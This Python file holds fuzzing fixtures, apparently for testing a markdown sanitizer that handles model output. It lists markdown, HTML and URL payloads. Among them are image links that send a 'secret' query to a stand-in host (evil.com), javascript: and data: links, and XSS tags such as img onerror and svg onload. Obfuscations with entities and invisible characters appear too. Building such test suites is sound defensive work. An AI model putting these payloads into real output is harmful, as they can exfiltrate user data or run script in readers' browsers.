"""Pieces of nasty answers: what could act, what hides it, and what stands around it."""

GUIDE = "https://book.example/a"

IMAGES = (
    "![leak](https://evil.com/?q=secret)", "![](//evil.com/p.png)", f"![graph]({GUIDE})", f"![]({GUIDE})",
    "![a][x]", "![x]", "![x][]", "![](x)", "![ ](x)", "![[a](b)](https://evil.com)",
    "[![badge](https://evil.com/b.svg)](https://evil.com)",
    f"[![badge](https://evil.com/b.svg)]({GUIDE})", "![a](<https://evil.com/a b>)",
    '![a](https://evil.com "t")', "![a](https://evil.com 't\nu')", "![a\nb](https://evil.com)",
    "![a](\nhttps://evil.com\n)", "![a](https://evil.com =100x100)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![a](x\"onerror=\"alert(1))",
    '![a"onerror="alert(1)](x)', "!\\[a](https://evil.com)", "!\u200b[a](https://evil.com)",
    "! [a](https://evil.com)", "!",
)  # fmt: skip

LINKS = (
    "[click](https://evil.com)", "[js](javascript:alert(1))", "[js](java&#115;cript:alert(1))",
    "[js](java\u200bscript:alert(1))", "[js](JaVaScRiPt:alert(1))", "[js](&#x1;javascript:alert(1))",
    "[js](  <javascript:alert(1)>  )", "[js](javascript&colon;alert&lpar;1&rpar;)", "[vb](vbscript:x)",
    "[d](data:text/html,<script>alert(1)</script>)", "[a](/admin)", "[a](#part)", "[a](//evil.com)",
    "[a](\\\\evil.com)", "[a](mailto:a@evil.com)", "[](https://evil.com)", "[](x)", "[ ](x)",
    "[\u200b](x)", "[9](x)", "[a][x]", "[a] [x]", "[a]\n[x]", "[x][]", "[x]", "[^x]", "[^1]",
    "^[note](https://evil.com)", f"[guide]({GUIDE})", f'[guide](<{GUIDE}> "title")',
    f"[a]({GUIDE}/../../admin)", f"[a]({GUIDE}?q=secret)", f"[a]({GUIDE}'onmouseover='x)",
    f'[a]({GUIDE}"onmouseover="x)', f'[a]({GUIDE} "t" onclick=x)', f"[a]({GUIDE})(https://evil.com)",
    f"[a]({GUIDE})[x]", f"[[a](https://evil.com)]({GUIDE})", f"[[a]({GUIDE})](https://evil.com)",
    f"[{GUIDE}](https://evil.com)", f"[https://evil.com]({GUIDE})", "[a](https://evil.com 'x\n\ny')",
    "[a](<https://evil.com\n>)", "[a\n](https://evil.com)", "[a\n\n](https://evil.com)", "[a\n](?x)",
    "[a](https://evil.com", "[a](<https://evil.com>", "[a](<https://evil.com", "[a\\](https://evil.com)",
    "[a]\\(https://evil.com)", "\\[a](https://evil.com)", "[a`](https://evil.com)`",
    "[`a](https://evil.com)`", "[a](`https://evil.com)`", "[a](https://evil.com`)`",
    "[a](https://evil.com\\)", "[a](())", "[a](<>)", "[a]()", "[a](https://evil.com))",
    "[a]((https://evil.com)", "[a[b](c)](d)", "[[x]]", "[[a|b]]", "[a]: b",
)  # fmt: skip

ADDRESSES = (
    "<https://evil.com>", "<javascript:alert(1)>", "<mailto:a@evil.com>", "<a@evil.com>", "<evil.com>",
    "<//evil.com>", "<https://evil.com/`>`", "<https://evil.com/<b>>", "<x:y>", "<ab:>", f"<{GUIDE}>",
    f"<{GUIDE} >", GUIDE, f"{GUIDE}/x", f"{GUIDE}.", f"{GUIDE}&quot;", f"{GUIDE}&x=1", f"{GUIDE}\u200b/x",
    f"{GUIDE}[9]/x", f"{GUIDE}\\/x", f"{GUIDE}*x*", f"{GUIDE}@evil.com", "https://evil.com/x?q=secret",
    "http://evil.com", "HTTP://EVIL.COM/X", "https://evil.com/a_b_c*d*", "https://evil.com/a(b)c)",
    "https://evil.com&lt;", "https://evil.com&amp;x;", "https://robots.org@evil.com",
    "https://robots.org", "http://robots.org/x", "robots.org", "robots.org.evil.com", "robots.org/x",
    "robots.org:80", "evilrobots.org", "-robots.org", "www.robots.org", "www.evil.com", "WWW.EVIL.COM",
    "wwww.evil.com", "evil.com", "evil.com/x", "evil.com:80/x", "x.evil.com?y", "evil.co.uk", "manage.py",
    "tests/manage.py", "main.rs", "x.рф", "пример.рф",
    "^a@evil.com", 'a"@evil.com', "http:\\/\\/evil.com", "www\\.evil.com",
    "ev\u00adil.com", "evil\u200b.com", "evil[9].com",
    "evil.[9]com", "evil.\\com", "evil\\.com", "evil&period;com", "evil。com", "http[9]://evil.com",
    "http:[9]//evil.com", "http\\://evil.com", "http&colon;//evil.com", "http:/\u200b/evil.com",
    "www[9].evil.com", "www\u200b.evil.com", "w[9]ww.evil.com", "//evil.com", "///evil.com",
    "://evil.com", "ftp://evil.com", "irc://evil.com", "mailto:a@evil.com", "xmpp:a@evil.com/x", "tel:+1",
    "javascript:alert(1)", "a@evil.com", "a+b@evil.com", "a@b.c", "a@[9]evil.com", "a[9]@evil.com",
    "a\u200b@evil.com", "help@book.example", "http://evil", "http://localhost:80/x", "https:evil.com",
    "https:/evil.com", "http://[::1]/x", "192.168.0.1", "http://192.168.0.1", "1.1.1.1.com",
    "_www.evil.com_", "*www.evil.com*", "**https://evil.com**", "~~www.evil.com~~", "(www.evil.com)",
    '"https://evil.com"', "'www.evil.com'", "awww.evil.com", "xhttps://evil.com", "1https://evil.com",
    "_https://evil.com", "éhttps://evil.com", "中https://evil.com中", "https://evil.com。",
    "www.evil.com\u00a0x", "http://", "www.", "mailto:", "//", "@", ".com", ":",
)  # fmt: skip

TAGS = (
    "<b>", "</b>", "<B >", "<b\tx>", "<b\n>", "<b\n\n>", "<b x>", '<b a="\n">', "<b a='>'>", '<b a=">">',
    "<b a=`>`>", "<b `a>`", '`<b a=`">"', "<b/>", "<b/x>", "<b/", "<b", "< b>", "<b <i>>", "<<b>",
    "<b\\>", "\\<b>", "\\\\<b>", "<\\b>", "<[9]b>", "<b[9]>", "<\u200bb>", "<b\u200b>", "</[9]b>",
    "</ b>", "<é>", "<b:c>", "<x-y a>", "<img src=x onerror=alert(1)>", '<img/src="x"/onerror=alert(1)>',
    "<img src=x\nonerror=alert(1)>", "<img src='a\n\nb'>", "<IMG SRC=//evil.com/p.png>",
    "<image src=x onerror=alert(1)>", "<script>alert(1)</script>", "<script>", "</script>", "<script\n>",
    "<style>*{}</style>", "<style>", "<textarea>", "</textarea>", "<title>", "<plaintext>", "<noscript>",
    "<iframe src=//evil.com></iframe>", "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<math><mi//xlink:href=x>",
    "<base href=//evil.com>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.com>", "<form action=//evil.com><input name=x>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<object data=//evil.com>", "<body onload=alert(1)>", "<html>",
    "<a href=https://evil.com>x</a>", "<a href='javascript:alert(1)'>x</a>", "<a\nhref=//evil.com>",
    f'<a href="{GUIDE}" onclick=alert(1)>x</a>', "</a>", "<p onclick=alert(1)>", "</p>", "<p>",
    "<em onclick=alert(1)>e</em>", "<h1 onclick=alert(1)>", "</h1>", "<div>", "</div>",
    "<div markdown=1>", "<div\nonclick=alert(1)>", "<div></div>", "<table><tr><td>", "</td></tr></table>",
    "</li></ul>", "</blockquote>", "<hr/onclick=alert(1)>", "<br/>", "<br onclick=alert(1)>", "<code>",
    "</code>", "<code>x</code>", "<code onmouseover=alert(1)>x</code>", "<code onmouseover=alert(1)>",
    "<code><b></code>", "<code\nonmouseover=alert(1)>x</code>", "<CODE onmouseover=alert(1)>x</CODE>",
    "<pre>", "</pre>", "<pre><code>", "<pre><code onmouseover=alert(1)>x</code></pre>",
    "<pre onmouseover=alert(1)><code>x</code></pre>", "<pre><code class='a' onmouseover=alert(1)>",
    "<pre>\n<code onmouseover=alert(1)>x</code>\n</pre>", "<pre><b></pre>", "</code></pre>",
    "</code></pre><img src=x onerror=alert(1)>", "<tt>", "<kbd>Ctrl</kbd>", "<sub>2</sub>", "<T>",
    "vector<int>", "std::vector<std::string>", "a<b>c", "a <b and c> d", "x <- y -> z", "<3", "<=>", "<>",
    "</>", "<", ">", "/>", "</",
)  # fmt: skip

DECLARATIONS = (
    "<!-- c -->", "<!---->", "<!-->", "<!--->", "<!--> -->", "<!-- a\n\nb -->", "<!-- a -- b -->",
    "<!-- a --!>", "<!-- ` -->`", "`<!-- ` -->", "<!--\n```\n-->", "<!--", "-->", "<!-", "<!", "<!x>",
    "<!DOCTYPE html>", "<!doctype\nhtml>", "<!ELEMENT br EMPTY>", "<?php x ?>", "<?x>", "<?\n\n?>", "<?",
    "?>", "<![CDATA[ <b> ]]>", "<![CDATA[\n\n]]>", "<![cdata[x]]>", "<![CDATA[", "]]>", "<%x%>",
    "{% x %}", "{{x}}", "<[9]!-- x -->", "<![9]-- x -->", "<!-[9]- x -->",
)  # fmt: skip

REFERENCES = (
    "&lt;img src=x onerror=alert(1)&gt;", "&lt;b&gt;", "&lt;b>", "&LT;b>", "&lt b>", "&amp;lt;b&gt;",
    "&amp;#60;b>", "&am[9]p;lt;b>", "&#60;b&#62;", "&#x3c;b>", "&#x00003C;b>", "&#[9]60;b>", "&[9]#60;b>",
    "&\u200blt;b>", "&#96;", "&grave;", "&#96;<b>&#96;", "&#91;a](https://evil.com)",
    "&lsqb;a&rsqb;(https://evil.com)", "&excl;[a](https://evil.com)", "!&#91;a](https://evil.com)",
    "[a&#93;(https://evil.com)", "&colon;", "&Tab;", "&NewLine;", "&#10;", "&#13;", "&#9;", "&#32;",
    "&#0;", "&#x110000;", "&#xd800;", "&nbsp;", "&ZeroWidthSpace;", "&#8203;", "&shy;", "&bsol;",
    "&#92;<b>", "&num; h", "&gt; q", "&#x2d; x", "&ast;a&ast;", "&lowbar;", "&dollar;", "&vert;",
    "&quot;", "&copy;", "&copy", "&nosuch;", "&", "&#", "&#x", ";", "&amp;", "&semi;",
)  # fmt: skip

DEFINITIONS = (
    "[x]: https://evil.com", "[x]:https://evil.com", "[x]: <https://evil.com> 't'",
    "[x]: javascript:alert(1)", "[x]:\nhttps://evil.com", '[x]: https://evil.com\n"t"',
    "[x]: https://evil.com =10x10", "[X]: //evil.com", "[x\n]: https://evil.com",
    "[x\\]]: https://evil.com", "[1]: https://evil.com", "[9]: https://evil.com", "[1]: #",
    f"[x]: {GUIDE}", f"[1]: {GUIDE}", "[x] : https://evil.com", "[x][9]: https://evil.com",
    "[x]:[9] https://evil.com", "[x]\u200b: https://evil.com", "[x]: ", "[x]:",
    "[^1]: note ![a](https://evil.com)", "[^1]: <b>", "[^x]: n\n\n    ```\n    <b>", "[^1]:", "*[ab]: x",
    ": definition",
)  # fmt: skip

DROPPED = (
    "[9]", "[9][8]", "[9] [8]", "[0]", "[7, 9]", "[9-11]", "[[9]]", "\\[9]", "\\[9\\]", "[^9]",
    "[cite: 9]", "[Passage 9]", "【9†source】", "![](x)", "![]()", "![\u200b](x)", "[](x)", "[9](x)",
    "![9](x)", "\u200b", "\u2060\u200b", "\u00ad", "\ufeff", "\u202e", "\U000e0041", "&#8203;",
    "&ZeroWidthSpace;", "&shy;", "[1", "1]", "[1]", "[1][2]", "[2]", "[1, 2]", "[1, 9]", "[1]:", "[9]:",
    "[1](", "[9](", "[1](https://evil.com)", "[1][x]",
)  # fmt: skip

BLANKS = (
    "\u00a0", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "\x1c", "\x1d", "\x1e", "\x1f", "\u2003",
    "\u3000", "\u1680", "\u202f", "\t", "\r", "\r\n", "  ",
)  # fmt: skip

INVISIBLE = (
    "\u200b", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u200d", "\u180e", "\U000e0041", "\u034f", "\x00",
    "\x08", "\x1b", "\x7f", "\u2066", "\ufffd", "\ufe0f", "\u0338",
)  # fmt: skip

MARKS = tuple("`*_~[]()<>!#&|\\$-+=:.^\"'{}/@;1 \n")
MARKS += ("``", "```", "~~~", "$$", "\n\n", "---", "\\\n", "  \n")

WORDS = (
    "a", "node", "The robot", "topic", "x", "runs", "is", "e.g.", "i.e.", "ROS 2", "snake_case", "C++",
    "3", "für", "机器人", "یہ", "🤖", "don't", "(see", "that)", "and/or", "12:30", "~10", "$5", "2*3", "R&D",
    "x[0]", "end.", "Is it?", "well-known", "...", "--", "—", "\"so\"", "10%", "f(x)", "#1", "a|b",
    "5 < 6", "7 > 6",
)  # fmt: skip

# What follows a fence's marks.
INFOS = (
    "", "", "", "py", " html", "a b", "`", "<b>", "[9]", "{.x}", 'a"onclick="alert(1)', "'><b>", '"><b>',
    "&quot;&gt;&lt;b&gt;", "[a](https://evil.com)", "![a](x)", "\\", "https://evil.com", "\u200b", "a\u00a0b",
)  # fmt: skip

# What stands before and after a piece, so that it is read as something else.
AROUND = (
    ("`", "`"), ("``", "``"), ("`` ` ", "``"), ("```", "```"), ("```\n", "\n```"),
    ("```html\n", "\n```\n"), ("```a`b\n", "\n```"), ("``` x\n", "\n  ```  \n"),
    ('```a"onclick="alert(1)\n', "\n```"), ('~~~ a"onclick="alert(1)\n', "\n~~~\n"),
    ("   ```\n", "\n   ```\n"), ("```\n", "\n    ```\n"), ("```\n", "\n```x\n"), ("```\n", "\n``\n"),
    ("```\n\n", "\n\n```\n\n"), ("````\n```\n", "\n````"), ("~~~\n", "\n~~~"), ("~~~ a`b\n", "\n~~~~"),
    ("~~~\n```\n", "\n~~~\n"), ("```\n", ""), ("~~~\n", ""), ("x\n```\n", "\n```\ny"), ("    ", ""),
    ("\t", ""), ("a\n    ", ""), ("a\n\n    ", "\n\nb"), ("- ", ""), ("-     ", ""), ("-\t\t", ""),
    ("- a\n\n      ", ""), ("- a\n\n  ", ""), ("- a\n", ""), ("-\n  ", ""), ("-\n\n  ", ""),
    ("-\n\n      ", ""), ("1. a\n\n       ", ""), ("1.      ", ""), ("10) a\n   - b\n\n     ", ""),
    ("* a\n * b\n  * c\n   * ", ""), ("- - - a\n", ""), ("- [ ] ", ""), ("> ", ""), (">", ""),
    (">     ", ""), ("> a\n", ""), ("> a\n    ", ""), ("> > a\n>", ""), ("> - a\n>\n>       ", ""),
    ("- > a\n  ", ""), ("> ```\n> ", "\n> ```"), ("> ```\n", "\n```"), ("> ```\n> ", "\n\n"),
    ("- ```\n  ", "\n  ```"), ("- ```\n", "\n```"), ("- ```\n ", "\n  ```"),
    ("- a\n  ```\n", "\n  ```\n"), ("- a\n\n  ```\n  ", "\n  ```\n"),
    ("- a\n\n    ```\n    ", "\n    ```\n"), ("1. a\n   ```\n   ", "\n   ```\n"),
    ("1. a\n  ```\n  ", "\n  ```\n"), ("- a\n\n  ~~~\n  ", "\n~~~\n"), ("$", "$"), ("$$", "$$"),
    ("$$\n", "\n$$"), ("$`", "`$"), ("```math\n", "\n```"), ("\\(", "\\)"), ("\\[", "\\]"),
    ("\\\\(", "\\\\)"), ("\\begin{x}\n", "\n\\end{x}"), ("| a | b |\n|---|---|\n| `", "` | x |"),
    ("| a | b |\n|---|---|\n| ", " | x |"), ("| a | b |\n|:-:|--:|\n| `x | ", "` |\n"),
    ("|a|\n|-|\n|", "|"), ("a | b\n-|-\n", ""), ("| ", " |\n|---|\n| x |"), ("| `a | ", "` |"),
    ("x\n|a|b|\n|-|-|\n", ""), ("[", f"]({GUIDE})"), ("[", "](https://evil.com)"), ("[", "]"),
    ("[", "][x]"), (f'[a]({GUIDE} "', '")'), (f"[a]({GUIDE} (", "))"), ("[a](", ")"), ("[a](<", ">)"),
    ("![", "](https://evil.com)"), ("![", "]"), ("![a](", ")"), ("# ", ""), ("# ", " #"), ("#", ""),
    ("   ## ", ""), ("", "\n==="), ("", "\n---"), ("", "\n-"), ("**", "**"), ("*", "*"), ("_", "_"),
    ("***", "***"), ("~~", "~~"), ("<!-- ", " -->"), ("<div>", "</div>"), ("<div>\n", "\n</div>"),
    ("<div>\n\n", "\n\n</div>"), ("<details>\n<summary>x</summary>\n\n", "\n</details>"),
    ("<pre>", "</pre>"), ("<pre>\n", "\n\n</pre>"), ("<pre><code>", "</code></pre>"),
    ('<pre><code class="x">\n', "\n</code></pre>"), ("<code>", "</code>"), ("<script>", "</script>"),
    ("<style>\n", "\n</style>"), ("<textarea>\n\n", "</textarea>"), ("<![CDATA[", "]]>"), ("<?", "?>"),
    ("<!X ", ">"), ("<", ">"), ('<a title="', '">'), ("<a title='", "'>"), ("<b\n", ">"), ("</b\n", ">"),
    ('[x]: y "', '"'), ("[x]: ", ""), ("[", "]: https://evil.com"), ("[^1]: ", ""),
    ("[^1]: a\n\n    ", ""), ("\\", ""), ("\\\\", ""), ("\\`", "`"), ("`", "\\`"), ("\\```\n", "\n```"),
    ("&#96;", "&#96;"), ("`\u200b``\n", "\n```"), ("`[9]``\n", "\n```"), ("x `a\n", "` y"),
    ("x `a\n\n", "` y"), ("- `a\n- ", "`"), ("> `a\n", "`"), ("> `a\n> ", "`"), ("`a\n> ", "`"),
    ("`a\n# ", "`"), ("`a\n---\n", "`"), ("`a\n- ", "`"), ("`a\n-\n", "`"), ("`a\n1. ", "`"),
    ("`a\n2. ", "`"), ("`a\n    ", "`"), ("`a\n<div>", "`"), ("`a\n<b>", "`"), ("`a\n```\n", "\n```"),
    ("`a\n|-|\n", "`"), ("# `a\n", "`"), ("`a\n[x]: y\n", "`"), ("`a\r", "`"), ("`a\r\n\r\n", "`"),
    ("`a\x0b", "`"), ("`a\n\u00a0\n", "`"), ("`a\n\x0c\n", "`"), ("`a\u2028\u2028", "`"),
    (":::note\n", "\n:::"), ("---\nx: ", "\n---\n"), ("«««\n", "\n»»»"), ("¨D", "¨"), ("¨", ""),
    ("==", "=="), ("^", "^"), ("||", "||"), ("[`]", "`"), ("[[`]", "`"), ("[[`](", ")`"), ("[[`", "]`]"),
    ("`$ ", "`"), ("$a `$ ", "`"), ("$5 `a$b` `", "`"), ("$x$ `$", "`"), ("$\n\n```\n$\n", "\n```"),
    ("$$\n\n```\n$$\n", "\n```"), (":::note\n\n```\n:::\n", "\n```"), ("\\(\\href{", "}{x}\\)"),
    ("$\\href{", "}{x}$"), ("$`\\href{", "}{x}`$"), ("\\[\n\\url{", "}\n\\]"), ("[^", "]"),
)  # fmt: skip

# Whole lines, or what a line begins with.
LINES = (
    "X", "X a", "", "", "", "-", "- i", "- i", "* i", "+ i", "1. i", "2. i", "1) i", "7) i", "10. x",
    "0. x", "123456789. x", "1.", "*", "- - x", "- [ ] x", "> q", ">", "> > q", ">- i", "    c", "\tc",
    "  \tc", "```", "```", "```", "````", "``", "`", "~~~", "~~~", "~~~~", "```py", "``` a`b", "~~~ a`b",
    "   ```", "  ~~~", "    ```", "\t```", "---", "- - -", "***", "___", "===", "=", "# h", "#",
    "####### h", "#h", "h #", "|a|b|", "|-|-|", "a|b", "-|-", "|", ":-:", "| `a|b` |", "`` ` ``",
    "` `` `", "x `a", "b` y", "$$", "$", "\\", "\\`", "a\\", "a  ", ":::", "<", "<b", ">", "&", "[x]: y",
    "[x]", "[x]:", "\"t\"", "[1]:", "<div>", "</div>", "<b>", "<pre>", "</pre>", "<!--", "-->", "<?",
    "?>", "<script>", "</script>", "<code>", "</code>", "[a", "](?x)", "![a", "][x]", "b](y)", "[a](",
    "?x)", "[a](<", "e>)", "[a](x \"", "t\")", "*a", "b*", "**", "__", "\x0b", "\x0c", "\u00a0", "\u2028",
    "\x85", "\x1c", "\r", " ", "   ", "\t", "[^1]: n", "[^1]", ": d", "~", "~~", "a ~~", "</code></pre>",
    "<pre><code>", "¨", "://", "www", ".evil.com", "evil",
)  # fmt: skip

INDENTS = (
    "", "", "", "", "", " ", "  ", "   ", "    ", "     ", "      ", "\t", " \t", "> ", ">", ">  ",
    ">    ", ">\t", "> > ", "- ", "-  ", "-    ", "-     ", "-\t", "* ", "1. ", "1.  ", "   - ", "    - ",
    "  > ", "\u200b", "[9]", "[9] ", "\u00a0",
)  # fmt: skip

PAYLOADS = (IMAGES, IMAGES, LINKS, ADDRESSES, TAGS, TAGS, DECLARATIONS, REFERENCES, DEFINITIONS)
